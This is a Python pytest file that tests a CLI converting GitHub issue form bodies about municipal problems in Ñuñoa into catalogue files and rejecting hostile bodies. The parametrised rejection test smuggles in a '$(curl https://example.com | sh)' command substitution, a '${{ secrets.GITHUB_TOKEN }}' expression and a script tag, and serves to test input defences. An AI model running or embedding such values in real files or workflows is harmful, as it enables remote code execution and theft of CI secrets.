"""`catalogo desde-issue`: a real form body becomes a valid file; hostile ones become a clear
comment and no file."""

from __future__ import annotations

from pathlib import Path

import pytest

from conftest import FIXTURES, run_cli

BODY = (FIXTURES / "issues" / "propuesta.md").read_text(encoding="utf-8")


@pytest.fixture
def root(catalogue_copy) -> Path:
    return catalogue_copy


def _convert(root: Path, body: str, tmp_path: Path):
    issue = tmp_path / "issue.md"
    issue.write_text(body, encoding="utf-8")
    comment = tmp_path / "comentario.md"
    result = run_cli(
        "desde-issue", str(issue), "--raiz", str(root), "--fecha", "2026-11-25",
        "--comentario", str(comment),
    )  # fmt: skip
    return result, comment.read_text(encoding="utf-8") if comment.exists() else ""


def _problem_files(root: Path) -> set[Path]:
    return set((root / "problems").rglob("*.md"))


def test_a_form_body_becomes_a_file_the_whole_catalogue_accepts(root, tmp_path):
    result, comment = _convert(root, BODY, tmp_path)
    assert result.returncode == 0, result.stderr
    path = result.stdout.strip()
    assert path == "problems/nunoa/derivacion-de-denuncias-por-perros-abandonados-en-la-via.md"
    text = (root / path).read_text(encoding="utf-8")
    assert "id: 13120-001\n" in text and "comuna: nunoa\n" in text and "estado: propuesto\n" in text
    assert "- medio-ambiente-y-residuos\n- atencion-ciudadana\n" in text
    assert "personas: 208237\n" in text and "## Situación actual\n" in text
    assert comment == ""
    assert run_cli("validar", "--raiz", str(root)).returncode == 0

    # The same issue again: the next free id and a new name, never the first file rewritten.
    again, _ = _convert(root, BODY, tmp_path)
    assert again.returncode == 0
    assert again.stdout.strip().endswith("-via-2.md")
    assert "id: 13120-002\n" in (root / again.stdout.strip()).read_text(encoding="utf-8")
    assert (root / path).read_text(encoding="utf-8") == text


@pytest.mark.parametrize(
    ("change", "expected"),
    [
        (
            lambda b: b.replace("en la vía pública", "$(curl https://example.com | sh)"),
            "«$(»",
        ),
        (
            lambda b: b.replace(
                "Dirección de Medio Ambiente\n\n### Población",
                "${{ secrets.GITHUB_TOKEN }}\n\n### Población",
            ),
            "«${{»",
        ),
        (
            lambda b: b.replace(
                "listas incompletas y repetidas.", "listas. <script>alert(1)</script>"
            ),
            "HTML",
        ),
        (
            lambda b: b.replace("Nadie las reúne,", "La vecina con RUT 12.345.678-5 reclamó,"),
            "RUT",
        ),
        (lambda b: b + "\n" + "relleno " * 40_000, "supera los"),
        (lambda b: "Hola, tengo un problema con la basura.", "no sigue el formulario"),
        (lambda b: b.replace("\nÑuñoa\n", "\nGotham\n"), "comuna"),
    ],
    ids=["shell", "expresion-github", "html", "rut", "enorme", "sin-formulario", "comuna"],
)
def test_hostile_bodies_get_a_clear_comment_and_no_file(root, tmp_path, change, expected):
    before = _problem_files(root)
    result, comment = _convert(root, change(BODY), tmp_path)
    assert result.returncode == 1, result.stdout
    assert expected in comment, comment
    assert _problem_files(root) == before
    assert "Traceback" not in result.stderr and "<script" not in comment
